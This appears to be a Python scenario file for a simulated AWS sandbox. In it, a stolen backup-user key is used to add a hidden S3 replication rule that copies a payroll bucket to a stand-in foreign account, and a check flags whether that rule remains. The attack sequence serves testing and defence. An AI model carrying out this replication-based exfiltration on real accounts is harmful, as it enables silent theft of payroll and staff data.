"""The scenario `foreign-replication`: a backup user's key leaks, and the bucket begins to copy itself abroad.

The attacker reads little: a replication rule beside the company's own one sends every new object to a bucket
of another account, for as long as nobody looks.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from datetime import datetime
from typing import Any

from bot.sandbox.aws.server import FakeAws
from bot.sandbox.scenarios import account, calls, cast, everyday, files, policies
from bot.sandbox.scenarios.account import BUCKET
from bot.sandbox.scenarios.calls import do, get, listing
from bot.sandbox.scenarios.cast import Cast
from bot.sandbox.scenarios.live import EVERY, LivePlayers, Role
from bot.sandbox.scenarios.past import Beat, Past
from bot.sandbox.scenarios.player import Part, Player
from bot.sandbox.scenarios.state import asked
from bot.sandbox.scenarios.world import Turn, World

USER, COPIER = "backup-sync", "payroll-replication"
FOREIGN_ACCOUNT, FOREIGN_BUCKET = "999988887777", "collector-eu-7"
BACKUP = Part(USER, "innocent", "198.51.100.52", cast.SERVICE)
THIEF = Part("attacker", "attacker", cast.FOREIGN, cast.AWS_CLI)
ABROAD = "copies abroad"


class ForeignReplication:
    """Builds the account and plays the past; `live` goes on with it."""

    name = "foreign-replication"
    title = "A stolen backup key makes the payroll bucket replicate to another account"
    by_hand: tuple[tuple[str, Mapping[str, str]], ...] = ()

    def __init__(self, now: datetime | None = None) -> None:
        self._now = now

    def build(self, aws: FakeAws) -> World:
        past = Past(aws, self._now)
        _replicating(past)
        past.play([*everyday.ordinary(past.cast, past.chance), *_attack(past)])
        return past.world(
            attacker_ips=(THIEF.source_ip,),
            attacker_user=USER,
            leaked_key_id=past.account.keys[USER].access_key_id,
        )

    def live(self, aws: FakeAws, world: World, every: float = EVERY) -> LivePlayers:
        players = Cast(aws, world.keys)
        roles = [
            Role(players.user(THIEF, USER), calls.rounds(files.PAYROLL, calls.try_get)),
            Role(Cast(aws, {}).root(), calls.rounds([world.bucket], _copied)),
            *everyday.going_on(players),
        ]
        return LivePlayers(
            roles,
            attackers=(THIEF.name, ABROAD),
            innocents=(cast.APP.name, cast.REPORTS.name),
            every=every,
        )

    def wrong(self, aws: FakeAws, world: World) -> Iterator[str]:
        left = [rule["ID"] for rule in _rules(Cast(aws, {}).root(), world.bucket)]
        if left != ["to-archive"]:
            yield f"{world.bucket} replicates by the rules {left}; the company's own is to-archive."


def _replicating(past: Past) -> None:
    """What was there before: versions in both buckets, a role for S3, and the company's own rule."""
    for bucket in (BUCKET, account.ARCHIVE):
        if asked(past.root, "get_bucket_versioning", Bucket=bucket).get("Status") != "Enabled":
            status = {"Status": "Enabled"}
            past.root.do("s3", "put_bucket_versioning", Bucket=bucket, VersioningConfiguration=status)
    past.root.do("s3", "create_bucket", Bucket=FOREIGN_BUCKET)
    past.root.do(
        "s3", "put_bucket_versioning", Bucket=FOREIGN_BUCKET, VersioningConfiguration={"Status": "Enabled"}
    )
    copies = policies.allow(["s3:ReplicateObject", "s3:GetObjectVersionForReplication"])
    past.account.add_role(COPIER, policies.trust_in_service("s3.amazonaws.com"), policies.document(copies))
    work = policies.allow(
        [
            *("s3:ListAllMyBuckets", "s3:ListBucket", "s3:GetObject", "s3:GetReplicationConfiguration"),
            *("s3:PutReplicationConfiguration", "s3:GetBucketVersioning"),
        ]
    )
    hand_over = policies.allow(["iam:PassRole"], [past.account.role_arn(COPIER)])
    past.account.add_user(USER, policies.document(work, hand_over), "backup")
    own = _configuration(past, _rule("to-archive", 1, account.ARCHIVE))
    past.root.do("s3", "put_bucket_replication", Bucket=BUCKET, ReplicationConfiguration=own)


def _rule(name: str, priority: int, bucket: str, **destination: Any) -> dict[str, Any]:
    return {
        "ID": name,
        "Priority": priority,
        "Status": "Enabled",
        "Filter": {"Prefix": ""},
        "DeleteMarkerReplication": {"Status": "Disabled"},
        "Destination": {"Bucket": f"arn:aws:s3:::{bucket}", **destination},
    }


def _configuration(past: Past, *rules: dict[str, Any]) -> dict[str, Any]:
    return {"Role": past.account.role_arn(COPIER), "Rules": list(rules)}


def _attack(past: Past) -> Iterator[Beat]:
    backup, thief = past.cast.user(BACKUP, USER), past.cast.user(THIEF, USER)
    for minute in (55, 40, 25):
        yield Beat(minute, backup, listing("2026/"))
        yield Beat(minute - 0.5, backup, get(files.PAYROLL[minute % len(files.PAYROLL)]))
    abroad = _rule("sync-eu-west-backup", 2, FOREIGN_BUCKET, Account=FOREIGN_ACCOUNT)
    both = _configuration(past, _rule("to-archive", 1, account.ARCHIVE), abroad)
    yield Beat(34.0, thief, do("sts", "get_caller_identity"))
    yield Beat(33.4, thief, do("s3", "list_buckets"))
    yield Beat(32.6, thief, listing(""))
    for number, key in enumerate(files.STAFF[:3]):
        yield Beat(32.0 - number * 0.3, thief, get(key))
    yield Beat(29.5, thief, do("s3", "get_bucket_replication", Bucket=BUCKET))
    yield Beat(28.0, thief, do("s3", "put_bucket_replication", Bucket=BUCKET, ReplicationConfiguration=both))


def _rules(root: Player, bucket: str) -> list[dict[str, Any]]:
    found = asked(root, "get_bucket_replication", Bucket=bucket).get("ReplicationConfiguration", {})
    return list(found.get("Rules", []))


def _copied(bucket: str) -> Any:
    """Whether what is written now would be copied to the foreign account, as S3 does it on its own."""

    def look(root: Player) -> Turn:
        abroad = any(FOREIGN_BUCKET in rule["Destination"]["Bucket"] for rule in _rules(root, bucket))
        call = f"ReplicateObject {FOREIGN_BUCKET}"
        return Turn(ABROAD, call, abroad, None if abroad else "no such rule")

    return look
